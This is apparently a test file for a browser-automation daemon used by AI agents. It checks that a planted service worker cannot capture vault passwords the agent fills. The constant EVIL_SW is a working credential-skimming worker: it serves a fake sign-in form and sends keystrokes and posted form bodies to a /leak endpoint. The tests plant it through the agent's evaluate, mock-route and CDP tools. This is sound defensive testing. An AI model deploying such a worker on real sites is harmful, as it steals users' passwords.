/**
 * Code an agent leaves in a site's own storage must not get the site's vault values. A script the agent runs on
 * a page of the site (browser_evaluate), a page it wrote with a browser_route mock, or a timed CDP session can
 * register a service worker there; the worker outlives the page and later answers the site's sign-in page with a
 * page of its own, one that sends what is typed to /leak (and reads any form posted through it). Every way in
 * must end with nothing at /leak: the site's storage is cleaned before the next sign-in page is opened, and a
 * page that loaded while it was not gets no value. Pages are on loopback names (*.test mapped to 127.0.0.1),
 * treated as secure origins so service workers run there.
 */
import t, { type Test } from 'tap';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import WebSocket from 'ws';
import { call as rawCall, refOf, startTestDaemon, type TestDaemon } from '../fixtures/daemon.js';
import { startLoginSite, USERS, type LoginSite } from '../fixtures/login-site.js';
import { html } from '../fixtures/site.js';
import { pageEval } from '../fixtures/page-eval.js';

const PASSWORD = USERS.bob.password;
let d: TestDaemon;
let site: LoginSite;
let client: Client;
let token: string;

const call = (name: string, args: Record<string, unknown> = {}) => rawCall(client, name, args);
const errorCode = (text: string) => /^Error \[([a-z_]+)\]/m.exec(text)?.[1];
const tabOf = (text: string) => /\b(t\d+)\b/.exec(text)![1];
const openAct = async (url: string) => tabOf((await call('browser_open', { url, mode: 'act' })).text);
const leaks = () => site.requests.filter((r) => r.path.startsWith('/leak'));
/** The leak, if one comes within ms: the bounded wait of an absence (a leak is sent on the fill's input event). */
const leakWithin = (ms: number) => site.waitFor((r) => r.path.startsWith('/leak'), ms).then((r) => r, () => undefined);
const heading = (tab: string) => pageEval(d, 'alice', tab, `document.querySelector('h1')?.textContent ?? ''`);

/** A service worker that answers every page of its origin with a sign-in form of its own, and reads every post. */
const EVIL_SW = `
  self.addEventListener('install', () => self.skipWaiting());
  self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
  const page = '<!doctype html><title>Sign in</title><h1>Planted sign-in</h1><form method="post" action="/login">' +
    '<label>Email or user name <input name="username" autocomplete="username"></label>' +
    '<label>Password <input type="password" name="password" autocomplete="current-password"></label>' +
    '<button type="submit">Sign in</button></form>' +
    '<script>for (const i of document.querySelectorAll("input")) i.addEventListener("input", () => fetch("/leak?typed=" + encodeURIComponent(i.value)));</script>';
  self.addEventListener('fetch', (e) => {
    if (e.request.method === 'POST') {
      e.respondWith(e.request.clone().text().then((b) => fetch('/leak?posted=' + encodeURIComponent(b))).then(() => fetch(e.request)));
      return;
    }
    if (e.request.mode === 'navigate') e.respondWith(new Response(page, { headers: { 'content-type': 'text/html' } }));
  });`;
const REGISTER = `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => 'registered')`;

t.before(async () => {
  site = await startLoginSite();
  const secure = ['login.test', 'www.login.test', 'sub.login.test'].map((h) => site.at(h)).join(',');
  d = await startTestDaemon({
    chromeArgs: ['--host-resolver-rules=MAP *.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1', `--unsafely-treat-insecure-origin-as-secure=${secure}`],
  });
  token = await d.addUser('alice');
  client = await d.mcp(token);
  await d.daemon.env.vault.setFields('alice', 'login.test', { loginUrl: `${site.at('login.test')}/login`, fields: { username: 'bob', password: PASSWORD } });
  site.route('/sw.js', (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/javascript' });
    res.end(EVIL_SW);
  });
  site.route('/leak', (_req, res) => res.writeHead(204).end());
  site.route('/page', html('<h1>Another page of the site</h1>', '', 'Page'));
  site.route('/links', html(`<h1>Links</h1><a href="${site.at('login.test')}/login">Sign in at login.test</a>`, '', 'Links'));
});

t.teardown(async () => {
  await d.stop();
  await site.close();
});

/** Registers the worker from a page of the site by `how`, then leaves that page: the document that ran it is gone. */
async function plantWithEvaluate(): Promise<string> {
  const tab = await openAct(`${site.at('login.test')}/page`);
  const r = await call('browser_evaluate', { tab, js: REGISTER });
  if (!/registered/.test(r.text)) throw new Error(`the worker was not registered: ${r.text}`);
  await call('browser_navigate', { tab, url: `${site.at('other.test')}/page` });
  return tab;
}

async function fillPassword(tab: string) {
  const snap = (await call('browser_snapshot', { tab })).text;
  return call('browser_fill_secret', { tab, ref: refOf(snap, /textbox "Password"/), site: 'login.test', field: 'password' });
}

/** Fills the password in `tab`: the site's own sign-in page takes it, nothing reaches /leak; then the tab closes. */
async function fillReachesOnlyTheSite(t: Test, tab: string) {
  const r = await fillPassword(tab);
  t.notOk(r.isError, r.text);
  t.equal(await heading(tab), 'Sign in', 'the site answered, not the worker');
  t.equal(await leakWithin(1500), undefined, 'nothing reached /leak');
  await call('browser_close_tab', { tab });
}

t.test('a worker registered by a script the agent ran: the sign-in page opened after it is the site\'s own', async (t) => {
  const tab = await plantWithEvaluate();
  await call('browser_navigate', { tab, url: `${site.at('login.test')}/login` });
  await fillReachesOnlyTheSite(t, tab);
});

t.test('a page that loaded through the worker (a link, no navigation of ours) gets no value; opening it again does', async (t) => {
  const tab = await plantWithEvaluate();
  await call('browser_navigate', { tab, url: `${site.at('other.test')}/links` });
  const snap = (await call('browser_snapshot', { tab })).text;
  await call('browser_click', { tab, ref: refOf(snap, /link "Sign in at login.test"/) });
  await call('browser_wait', { tab, selector: 'input[name=password]' });
  const refused = await fillPassword(tab);
  t.equal(errorCode(refused.text), 'refused', refused.text);
  t.match(refused.text, /service worker/);
  t.match(refused.text, /browser_navigate/, 'the next step says how to get a clean page');
  t.equal(await pageEval(d, 'alice', tab, `document.querySelector('input[name=password]').value.length`), 0, 'nothing was filled');
  await call('browser_navigate', { tab, url: `${site.at('login.test')}/login` });
  const ok = await fillPassword(tab);
  t.notOk(ok.isError, ok.text);
  t.equal(await heading(tab), 'Sign in');
  t.equal(await leakWithin(1500), undefined, 'nothing reached /leak');
  await call('browser_close_tab', { tab });
});

t.test("while a page of the site is open its storage is not cleaned; the worker's page stays refused after the script's page is gone", async (t) => {
  // The script's page stays open on the site this time.
  const planter = await openAct(`${site.at('login.test')}/page`);
  t.match((await call('browser_evaluate', { tab: planter, js: REGISTER })).text, /registered/);
  const held = await openAct(`${site.at('login.test')}/login`);
  t.equal(await heading(held), 'Planted sign-in', 'with the script\'s page open, the worker answered the new tab');
  const r = await fillPassword(held);
  t.equal(errorCode(r.text), 'refused', r.text);
  t.match(r.text, new RegExp(`\\b${planter}\\b`), 'the refusal names the tab on the site');
  // The page the script ran in goes; the page the worker made is still the worker's.
  await call('browser_navigate', { tab: planter, url: `${site.at('other.test')}/page` });
  const still = await fillPassword(held);
  t.equal(errorCode(still.text), 'refused', still.text);
  t.match(still.text, /service worker/);
  t.equal(await pageEval(d, 'alice', held, `document.querySelector('input[name=password]').value.length`), 0, 'nothing was filled');
  t.equal(await leakWithin(1000), undefined);
  // Opened again by the daemon, with nothing of the site left open: the site's own page.
  await call('browser_navigate', { tab: held, url: `${site.at('login.test')}/login` });
  t.equal(await heading(held), 'Sign in');
  const ok = await fillPassword(held);
  t.notOk(ok.isError, ok.text);
  t.equal(await leakWithin(1500), undefined, 'nothing reached /leak');
  for (const tab of [held, planter]) await call('browser_close_tab', { tab });
});

t.test('browser_login after a planted worker signs in at the site itself', async (t) => {
  const tab = await plantWithEvaluate();
  const before = site.signedIn.length;
  const r = await call('browser_login', { tab, site: 'login.test' });
  t.notOk(r.isError, r.text);
  t.match(r.text, /Outcome: signed_in/);
  t.same(site.signedIn.slice(before), [{ user: 'bob', host: 'login.test', via: 'password' }], 'the site got the sign-in');
  t.equal(await leakWithin(1500), undefined, 'nothing reached /leak');
  await call('browser_close_tab', { tab });
});

t.test('a worker registered by a page the agent wrote with a mock route', async (t) => {
  const tab = await openAct(`${site.at('login.test')}/page`);
  const body = `<h1>Mocked</h1><script>${REGISTER}.then((r) => document.title = r);</script>`;
  t.notOk((await call('browser_route', { tab, action: 'add', urlPattern: '**/mock-plant', kind: 'mock', contentType: 'text/html', body })).isError);
  await call('browser_navigate', { tab, url: `${site.at('login.test')}/mock-plant` });
  await call('browser_wait', { tab, text: 'Mocked' });
  t.equal(await pageEval(d, 'alice', tab, `navigator.serviceWorker.ready.then(() => 'ready')`), 'ready', 'the mocked page registered the worker');
  // The mock and its tab go; the worker stays behind in the site's storage.
  await call('browser_close_tab', { tab });
  const login = await openAct(`${site.at('login.test')}/login`);
  await fillReachesOnlyTheSite(t, login);
});

t.test('the mark outlives a restart, like the worker in the profile: a tab reopened on the worker\'s page gets no value', async (t) => {
  const tab = await plantWithEvaluate();
  // To the sign-in page by a link of the page (no navigation of the daemon's, so nothing is cleaned).
  await call('browser_navigate', { tab, url: `${site.at('other.test')}/links` });
  await call('browser_click', { tab, ref: refOf((await call('browser_snapshot', { tab })).text, /link "Sign in at login.test"/) });
  await call('browser_wait', { tab, selector: 'input[name=password]' });
  t.equal(await heading(tab), 'Planted sign-in');
  await d.restart();
  client = await d.mcp(token);
  // The tab comes back at its address, where the worker, still in the profile, answers again.
  await call('browser_wait', { tab, selector: 'input[name=password]' });
  t.equal(await heading(tab), 'Planted sign-in', 'the worker outlived the restart');
  const r = await fillPassword(tab);
  t.equal(errorCode(r.text), 'refused', r.text);
  t.equal(await leakWithin(1000), undefined);
  await call('browser_navigate', { tab, url: `${site.at('login.test')}/login` });
  t.equal(await heading(tab), 'Sign in');
  t.notOk((await fillPassword(tab)).isError);
  t.equal(await leakWithin(1500), undefined, 'nothing reached /leak');
  await call('browser_close_tab', { tab });
});

/** The minimum of a CDP client over the session's WebSocket. */
async function cdpConnect(url: string): Promise<{ send(method: string, params?: object, sessionId?: string): Promise<any>; close(): void }> {
  const ws = new WebSocket(url);
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('error', reject);
  });
  let id = 0;
  const pending = new Map<number, (m: any) => void>();
  ws.on('message', (data) => {
    const m = JSON.parse(String(data));
    if (typeof m.id === 'number') pending.get(m.id)?.(m), pending.delete(m.id);
  });
  return {
    send: (method, params = {}, sessionId) =>
      new Promise((resolve, reject) => {
        const n = ++id;
        pending.set(n, (m) => (m.error ? reject(new Error(m.error.message)) : resolve(m.result)));
        ws.send(JSON.stringify({ id: n, method, params, ...(sessionId ? { sessionId } : {}) }));
      }),
    close: () => ws.close(),
  };
}

t.test('a worker registered through a timed CDP session', async (t) => {
  const tab = await openAct(`${site.at('login.test')}/page?cdp=1`);
  const open = await call('browser_sessions', { action: 'start', minutes: 1 });
  t.notOk(open.isError, open.text);
  const c = await cdpConnect(/ws:\/\/\S+/.exec(open.text)![0]);
  const { targetInfos } = await c.send('Target.getTargets');
  const target = targetInfos.find((x: any) => x.type === 'page' && x.url.includes('cdp=1'));
  const { sessionId } = await c.send('Target.attachToTarget', { targetId: target.targetId, flatten: true });
  const reg = await c.send('Runtime.evaluate', { expression: REGISTER, awaitPromise: true, returnByValue: true }, sessionId);
  t.equal(reg.result.value, 'registered');
  c.close();
  await call('browser_sessions', { action: 'stop', id: /\bcdp_[0-9a-f]{16}\b/.exec(open.text)![0] });
  // The tabs open when the session ended go (secret-documents.ts asks that much already).
  await call('browser_close_tab', { tab });
  const login = await openAct(`${site.at('login.test')}/login`);
  await fillReachesOnlyTheSite(t, login);
});

t.test('a worker a CDP session left on another origin of the site goes when the site is cleaned', async (t) => {
  const tab = await openAct(`${site.at('login.test')}/page?cdp=2`);
  const open = await call('browser_sessions', { action: 'start', minutes: 1 });
  t.notOk(open.isError, open.text);
  const c = await cdpConnect(/ws:\/\/\S+/.exec(open.text)![0]);
  const { targetInfos } = await c.send('Target.getTargets');
  const target = targetInfos.find((x: any) => x.type === 'page' && x.url.includes('cdp=2'));
  const { sessionId } = await c.send('Target.attachToTarget', { targetId: target.targetId, flatten: true });
  // The session takes the page to a sibling origin, plants the worker there, and comes back.
  await c.send('Page.navigate', { url: `${site.at('sub.login.test')}/page` }, sessionId);
  const reg = await c.send('Runtime.evaluate', { expression: `location.host.startsWith('sub.') ? ${REGISTER} : 'not on sub'`, awaitPromise: true, returnByValue: true }, sessionId);
  t.equal(reg.result.value, 'registered');
  await c.send('Page.navigate', { url: `${site.at('login.test')}/page?cdp=2` }, sessionId);
  c.close();
  await call('browser_sessions', { action: 'stop', id: /\bcdp_[0-9a-f]{16}\b/.exec(open.text)![0] });
  await call('browser_close_tab', { tab });
  // Opening the site's sign-in page cleans the site: the sibling origin's worker with it.
  await fillReachesOnlyTheSite(t, await openAct(`${site.at('login.test')}/login`));
  const sub = await openAct(`${site.at('sub.login.test')}/login`);
  t.equal(await heading(sub), 'Sign in', 'the sibling origin answers itself: its worker is gone');
  await fillReachesOnlyTheSite(t, sub);
});

t.test('nothing ever reached /leak', async (t) => {
  t.same(leaks().map((r) => r.path), []);
});
